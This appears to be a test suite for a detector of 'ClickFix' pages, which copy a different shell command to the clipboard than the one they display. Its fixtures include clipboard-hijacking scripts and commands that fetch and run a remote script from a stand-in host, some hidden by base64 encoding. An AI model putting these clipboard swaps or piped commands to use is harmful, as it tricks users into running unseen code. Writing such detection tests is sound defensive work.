/** Pages that put another command on the clipboard than they show, and pages that copy what they show. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

const isLure = (shown: string, script: string): boolean => {
  const { findings, obstacle } = inspect(
    Buffer.from(
      `<!DOCTYPE html><html><head><title>Tool</title></head><body><h1>Set up the tool</h1><p>Run this line.</p><code>${shown}</code><button onclick="c()">Copy</button><script>${script}</script></body></html>`,
    ),
  )
  assert.equal(obstacle, null)
  return findings.some(({ id }) => id === 'Docvet.Html.ClickFix')
}

const GENUINE = 'curl -fsSL https://tool.example/setup.sh | sh'
const OTHER = 'curl -fsSL https://other.example/x.sh | sh'
const coded = (command: string): string => `echo '${btoa(command)}' | base64 -d | sh`
const put = (text: string): string => `e.clipboardData.setData("text/plain",${JSON.stringify(text)});e.preventDefault()`
const onCopy = (text: string): string => `document.addEventListener("copy",e=>{${put(text)}});function c(){}`
const onClick = (text: string): string => `function c(){navigator.clipboard.writeText(${JSON.stringify(text)})}`

suite('another command than the page shows', () => {
  const lures: Readonly<Record<string, string>> = {
    'in place of what is copied': onCopy(OTHER),
    'in place of what is cut': onCopy(OTHER).replace('"copy"', '"cut"'),
    'by an attribute of the document': `document.oncopy=function(e){${put(OTHER)}};function c(){}`,
    'coded, in place of what is copied': onCopy(coded(OTHER)),
    'coded, by the button': onClick(coded(OTHER)),
    'in pieces, by the button': `function c(){navigator.clipboard.writeText(["echo '","${btoa(OTHER)}","' | base64 -d"].join("")+" | sh # "+Date.now())}`,
  }
  for (const [name, script] of Object.entries(lures)) test(name, () => assert.ok(isLure(GENUINE, script)))
})

suite('a page may copy', () => {
  const pages: Readonly<Record<string, readonly [shown: string, script: string]>> = {
    'what it shows': [GENUINE, onClick(GENUINE)],
    'what it shows, without the sign before it': [`$ ${GENUINE}`, onCopy(GENUINE)],
    'what it shows, with the spaces of the source': [GENUINE.replace(' | ', '\n  | '), onCopy(GENUINE)],
    'the end that it does not show': [`${GENUINE.slice(0, 30)}…`, onClick(GENUINE)],
    'a command of its own server': ['https://tool.example', onCopy(GENUINE.replace('https://', 'https://'))],
    'a coded command that it shows': [coded(GENUINE), onClick(coded(GENUINE))],
    'the text with its source': ['Some words', onCopy('Some words. Read more at https://news.example/tools/curl')],
    'a command, by the way of old browsers': [
      'Press the button.',
      `function h(e){${put(GENUINE)}}function c(){document.addEventListener("copy",h);document.execCommand("copy")}`,
    ],
  }
  for (const [name, [shown, script]] of Object.entries(pages)) test(name, () => assert.ok(!isLure(shown, script)))
})
